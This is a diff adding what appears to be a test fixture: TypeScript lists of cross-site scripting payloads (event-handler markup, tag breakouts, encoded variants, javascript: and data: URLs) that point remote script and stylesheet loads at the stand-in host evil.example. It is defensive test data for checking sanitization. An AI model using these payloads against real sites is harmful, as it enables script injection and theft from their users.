@@ -1,0 +1,93 @@
+/** Markup, script addresses and breakouts; whichever runs calls `pwn()`, whichever loads asks `evil.example`. */
+const call = 'pwn()'
+const host = 'http://evil.example'
+
+const handlers = ['onload', 'onerror', 'onfocus', 'onmouseover', 'ontoggle', 'onanimationstart', 'onbeforetoggle']
+const elements: readonly string[] = [
+  `<script>${call}</script>`,
+  `<script src="${host}/x.js"></script>`,
+  `<img src=x onerror="${call}">`,
+  `<img src="${host}/x.png">`,
+  `<img/src/onerror=${call}>`,
+  `<svg onload="${call}"></svg>`,
+  `<svg><script>${call}</script></svg>`,
+  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
+  `<svg><use href="${host}/x.svg#a">`,
+  `<math><mtext><script>${call}</script></mtext></math>`,
+  `<math href="javascript:${call}">x</math>`,
+  `<iframe src="javascript:${call}"></iframe>`,
+  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
+  `<object data="javascript:${call}"></object>`,
+  `<embed src="${host}/x.swf">`,
+  `<link rel=stylesheet href="${host}/x.css">`,
+  `<style>@import "${host}/x.css";</style>`,
+  `<style>*{background:url(${host}/x.png)}</style>`,
+  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
+  `<base href="${host}/">`,
+  `<form action="javascript:${call}"><input type=submit autofocus>`,
+  `<input autofocus onfocus=${call}>`,
+  `<details open ontoggle=${call}>`,
+  `<video><source onerror=${call}>`,
+  `<audio src=x onerror=${call}>`,
+  `<body onload=${call}>`,
+  `<marquee onstart=${call}>`,
+  `<template><script>${call}</script></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
+  `<a href="javascript:${call}">x</a>`,
+  `<x contenteditable onblur=${call} tabindex=0>x`,
+  `<gouji-report src="${host}/r.json"></gouji-report>`,
+  `<slot onslotchange=${call}></slot>`,
+  `<dialog open onfocusin=${call}><button autofocus>`,
+]
+const breakouts: readonly string[] = [
+  `"><script>${call}</script>`,
+  `'><img src=x onerror=${call}>`,
+  `" onfocus="${call}" autofocus="`,
+  `' onmouseover='${call}' x='`,
+  `</td></tr></table><script>${call}</script>`,
+  `</textarea><script>${call}</script>`,
+  `</title><script>${call}</script>`,
+  `</style><script>${call}</script>`,
+  `--><script>${call}</script><!--`,
+  `]]><script>${call}</script>`,
+  `</script><script>${call}</script>`,
+  `\u2028<script>${call}</script>\u2029`,
+  `\u0000<script>${call}</script>`,
+  `＜script＞${call}＜/script＞`,
+  `&lt;script&gt;${call}&lt;/script&gt;`,
+  `&#60;script&#62;${call}&#60;/script&#62;`,
+  `\\x3cscript\\x3e${call}\\x3c/script\\x3e`,
+  `<scr<script>ipt>${call}</script>`,
+  `<<script>${call}//<</script>`,
+  `\${${call}}`,
+  `{{constructor.constructor("${call}")()}}`,
+  `javascript:${call}//`,
+  `__proto__`,
+  `=HYPERLINK("${host}")`,
+]
+
+/** For every place that holds text. */
+export const textPayloads: readonly string[] = [
+  ...elements,
+  ...breakouts,
+  ...handlers.map(handler => `<i ${handler}=${call} style="animation:x 1s" tabindex=0 autofocus>x</i>`),
+]
+
+/** For every place that holds an address: none of them may become a link, an image or a request. */
+export const addressPayloads: readonly string[] = [
+  `javascript:${call}`,
+  `JaVaScRiPt:${call}`,
+  ` javascript:${call}`,
+  `java\tscript:${call}`,
+  `java\nscript:${call}`,
+  `\u0001javascript:${call}`,
+  `data:text/html,<script>${call}</script>`,
+  `data:image/svg+xml,<svg onload="${call}"/>`,
+  'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InB3bigpIi8+',
+  `vbscript:${call}`,
+  `//evil.example/x`,
+  `blob:${host}/x`,
+  `filesystem:${host}/x`,
+  `https://a" onclick="${call}`,
+  `http://a/<script>${call}</script>`,
+]
